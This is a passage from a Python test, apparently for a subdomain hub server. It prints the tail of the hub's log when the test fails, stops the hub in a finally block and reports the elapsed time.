    except BaseException:
        log.flush()
        print((tmp_path / "hub.log").read_text()[-8000:])
        raise
    finally:
        stop_hub(hub, log)
    print(f"subdomain hub test: {time.monotonic() - started:.0f} s")
